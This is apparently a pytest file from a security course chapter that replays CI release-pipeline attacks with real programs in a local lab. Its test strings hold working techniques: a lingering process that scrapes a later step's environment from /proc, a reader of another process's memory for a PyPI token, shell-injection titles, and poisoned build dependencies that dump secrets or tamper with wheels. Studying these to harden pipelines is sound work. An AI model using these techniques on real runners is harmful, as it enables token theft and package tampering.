"""Chapter 08 runs a job's steps inside one process. Here real programs do the same things: bash, Python processes
that outlive their step, uv with a build dependency from the lab's index and its hash in a lock."""

import hashlib
import json
import os
import subprocess
import sys
import zipfile
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import psutil
import pytest

from course.ch08 import attacks
from course.ch08.clients import upload
from course.ch08.grid import infected, run
from course.ch08.mallory import Mallory
from course.ch08.pipeline import PYPI_TOKEN, Pipeline, Project
from helpers.lab import Lab
from helpers.machine.runner import Runner
from helpers.machine.steps import StepMachine
from helpers.provider.jobs import GitHubJob

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="processes are looked up in /proc")
BACKEND = Path(__file__).parents[2] / "notebooks/data/build_backend.py"


def python(code):
    return [sys.executable, "-c", code]


def step(here, command, **variables):
    """Run a step of a real job, with variables that no other step gets."""
    before, here.environment = here.environment, here.environment | variables
    try:
        ended = here.run(command)
    finally:
        here.environment = before
    assert ended.ok, ended


@pytest.fixture
def real():
    with Runner({"A": "1"}, "https://127.0.0.1:1", Path("ca.pem")) as here:
        yield here


@pytest.fixture
def quick():
    here = StepMachine(GitHubJob(), {"A": "1"}, {}, {})
    yield here
    here.close()


# ---------------------------------------------------------------- one job, its steps and its processes

SEES = "import os, pathlib; pathlib.Path(%r).write_text(os.environ['A'] + os.environ.get('B', '-'))"
WATCHER = r"""
import json, os, pathlib
mine = ("RUNNER_TRACKING_ID=" + os.environ["RUNNER_TRACKING_ID"]).encode()
print("looking", flush=True)
while True:
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            variables = (process / "environ").read_bytes().split(b"\0")
            words = (process / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if mine in variables and b"publish" in words:
            found = dict(each.decode().split("=", 1) for each in variables if b"=" in each)
            pathlib.Path("new").write_text(json.dumps(found))
            os.rename("new", "stolen")
            raise SystemExit
"""
WAITS = f"""
import subprocess, sys
left = subprocess.Popen([sys.executable, "-c", {WATCHER!r}], start_new_session=True,
                        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
left.stdout.readline()
"""


def test_steps_share_files_and_no_variables(real, quick):
    step(real, python(SEES % "first"), B="2")
    step(real, python(SEES % "second"))
    write = "(here.folder / %r).write_text(here.environment['A'] + here.environment.get('B', '-'))"
    quick.run(write % "first", B="2")
    quick.run(write % "second")
    for here in (real, quick):
        files = [(here.folder / name).read_text() for name in ("first", "second")]
        assert files == ["12", "1-"]


def test_a_process_that_a_step_leaves_sees_a_later_steps_variables(real, quick):
    step(real, python(WAITS))
    step(real, [*python("import os, time\nwhile not os.path.exists('stolen'): time.sleep(0.01)"),
                "publish"], TOKEN="secret")  # fmt: skip
    assert json.loads((real.folder / "stolen").read_text())["TOKEN"] == "secret"
    seen = []
    quick.waiting.append(lambda here: seen.append(here.environment.get("TOKEN")))
    quick.run("pass", TOKEN="secret")
    assert seen == ["secret"]


def test_the_end_of_a_job_ends_its_processes_and_removes_its_files(real, quick):
    step(real, python(WAITS))
    mine = real.environment["RUNNER_TRACKING_ID"]
    quick.waiting.append(print)
    for here in (real, quick):
        here.close()
        assert not here.folder.exists()
    assert not quick.waiting
    assert not [each.pid for each in psutil.process_iter() if mine in _variables(each)]


def _variables(process):
    try:
        return process.environ().values()
    except psutil.Error:
        return ()


def test_a_step_may_read_the_memory_of_the_runners_own_process(real):
    """What `StepMachine.secrets` stands for. A hosted machine lets every step become root."""
    hold = "import sys; secret = sys.stdin.readline().strip(); print('ready', flush=True); input()"
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "text": True}
    with subprocess.Popen(python(hold), **pipes) as runner:
        runner.stdin.write("pypi-" + "x" * 40 + "\n")
        runner.stdin.flush()
        runner.stdout.readline()
        reads = f"""
import re
for line in open("/proc/{runner.pid}/maps"):
    start, end, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
    if "[heap]" in line or (rights == "rw-p" and line.split()[4] == "0"):
        with open("/proc/{runner.pid}/mem", "rb", 0) as memory:
            memory.seek(int(start, 16))
            if found := re.search(rb"pypi-x{{40}}", memory.read(int(end, 16) - int(start, 16))):
                open("stolen", "wb").write(found[0])
"""
        ended = real.run(python(reads))
        runner.stdin.write("\n")
    if os.geteuid() and "PermissionError" in ended.log:
        pytest.skip("this machine lets only root read another process")
    assert (real.folder / "stolen").read_text() == "pypi-" + "x" * 40


TITLES = {
    'Fix a typo"; >mallory; "': True,
    "Fix a typo $(touch mallory)": True,
    "`echo > mallory`": True,
    "Fix a typo; touch mallory": False,  # inside the quotes it is a word
    "It's > mallory": False,
}


@pytest.mark.parametrize("title", TITLES)
def test_a_title_becomes_a_command_as_in_a_script_of_githubs_runner(real, quick, title):
    notes = 'echo "In this release: ${{ title }}"'
    (real.folder / "step.sh").write_text(notes.replace("${{ title }}", title))
    real.run("bash -e step.sh")  # the runner writes a file and runs it so
    quick.shell(notes, title=title)
    assert [(here.folder / "mallory").exists() for here in (real, quick)] == [TITLES[title]] * 2


def test_in_a_variable_a_title_is_no_command(real):
    for title in TITLES:
        step(real, ["bash", "-ec", 'echo "In this release: $TITLE"'], TITLE=title)
    assert not (real.folder / "mallory").exists()


# ---------------------------------------------------------------- whole attacks

READS = "import json, os; open('stolen', 'w').write(json.dumps(dict(os.environ)))\n"
ALTERS = """
import pathlib, zipfile
for file in pathlib.Path("dist").glob("*.whl"):
    with zipfile.ZipFile(file) as wheel:
        members = {name: wheel.read(name) for name in wheel.namelist()}
    members["octo_rocket.py"] = b"def launch(): return 'boom'"
    with zipfile.ZipFile(file, "w") as wheel:
        for name, content in members.items():
            wheel.writestr(name, content)
"""
CHOSEN = (
    attacks.dependency_reads, attacks.dependency_waits, attacks.dependency_alters,
    attacks.test_dependency,
)  # fmt: skip


def put_builder(lab, version, source):
    """Publish the build dependency on the lab's index, and return its SHA-256."""
    file, about = BytesIO(), f"rocket_builder-{version}.dist-info"
    members = {
        "rocket_builder.py": source,
        f"{about}/METADATA": f"Metadata-Version: 2.1\nName: rocket-builder\nVersion: {version}\n",
        f"{about}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{about}/RECORD": "",
    }
    with zipfile.ZipFile(file, "w") as archive:
        for member, text in members.items():
            archive.writestr(member, text)
    name = f"rocket_builder-{version}-py3-none-any.whl"
    upload(lab, lab.index.create_api_token("carol"), name, file.getvalue())
    return hashlib.sha256(file.getvalue()).hexdigest()


def digests(folder):
    return {
        each.name: hashlib.sha256(each.read_bytes()).hexdigest() for each in folder.glob("*.whl")
    }


def copy(source, target):
    target.mkdir(exist_ok=True)
    for file in source.glob("*.whl"):
        (target / file.name).write_bytes(file.read_bytes())


class RealRelease:
    """The workflow of `Project.release`, with real programs on machines of their own."""

    def __init__(self, live, project, attack):
        self.live, self.project, self.machines = live, project, []
        lab, honest = project.lab, BACKEND.read_text().replace("1.0.0", "1.1.0")
        bad = {
            attacks.dependency_reads: READS + honest,
            attacks.dependency_waits: WAITS + honest,
            attacks.dependency_alters: honest.replace("3 2 1 lift-off", "boom"),
        }
        self.lock = put_builder(lab, "1.0", honest)
        put_builder(lab, "1.1", bad.get(attack, honest))
        self.tests = READS + WAITS + ALTERS if attack is attacks.test_dependency else "pass"

    def machine(self, job):
        self.machines.append(self.live.runner(job, approved_by="bob"))
        return self.machines[-1]

    def run(self):
        p = self.project.pipeline
        job = GitHubJob(ref="refs/tags/v1.1.0", id_token=p.trusted_publisher)
        powerless = replace(job, environment="", id_token=False)
        here = self.machine(powerless if p.separate_publish else job)
        (here.folder / "pyproject.toml").write_text(
            'project = {name = "octo-rocket", version = "1.1.0"}\n'
            'build-system = {requires = ["rocket-builder"], build-backend = "rocket_builder"}\n'
        )
        (here.folder / "build.txt").write_text(f"rocket-builder==1.0 --hash=sha256:{self.lock}\n")
        locked = ["--build-constraint", "build.txt", "--require-hashes"] if p.locked_build else []
        step(here, ["uv", "build", "--wheel", *locked])
        if p.separate_publish:
            here = self.between(job, powerless, here.folder / "dist")
            if here is None:
                return
        else:
            step(here, python(self.tests))
        stored = {"UV_PUBLISH_TOKEN": self.project.repository.secrets[PYPI_TOKEN]}
        command = ["uv", "publish", "--publish-url", f"{self.live.url}/legacy/", "dist/*.whl"]
        step(here, command, **({} if p.trusted_publisher else stored))

    def between(self, job, powerless, built):
        """Run the tests in a job that works on the artifact, and hand that to the publish job."""
        tests = self.machine(powerless)
        artifact, digest = tests.folder / "dist", digests(built)
        copy(built, artifact)
        step(tests, python(self.tests))
        here = self.machine(job)
        if self.project.pipeline.digest and digests(artifact) != digest:
            return None
        copy(artifact, here.folder / "dist")
        return here

    def stolen(self):
        """The variables that her code has left on the machines, the last first."""
        files = [here.folder / "stolen" for here in reversed(self.machines)]
        return [json.loads(file.read_text()) for file in files if file.exists()]


def succeeds(attack, pipeline):
    """Whether a user of octo-rocket runs Mallory's code, when every program is real."""
    with Lab() as lab, lab.serve() as live:
        project = Project(lab, pipeline)
        mallory, release = Mallory(project), RealRelease(live, project, attack)
        release.run()
        for variables in release.stolen():
            at_the_provider = f"{live.url}/github", lab.github.url
            mallory.read({key: value.replace(*at_the_provider) for key, value in variables.items()})
        mallory.publish()  # the jobs still run: her code has seen to that
        return infected(project, mallory)


@pytest.mark.proof
@pytest.mark.parametrize("letters", ["", "T", "S", "TS", "H", "TH", "TSD"])
@pytest.mark.parametrize("attack", CHOSEN, ids=lambda attack: attack.__name__)
def test_an_attack_succeeds_with_real_programs_where_it_succeeds_in_the_grid(attack, letters):
    pipeline = Pipeline.of(letters)
    assert succeeds(attack, pipeline) == (not run(attack, pipeline).stopped)
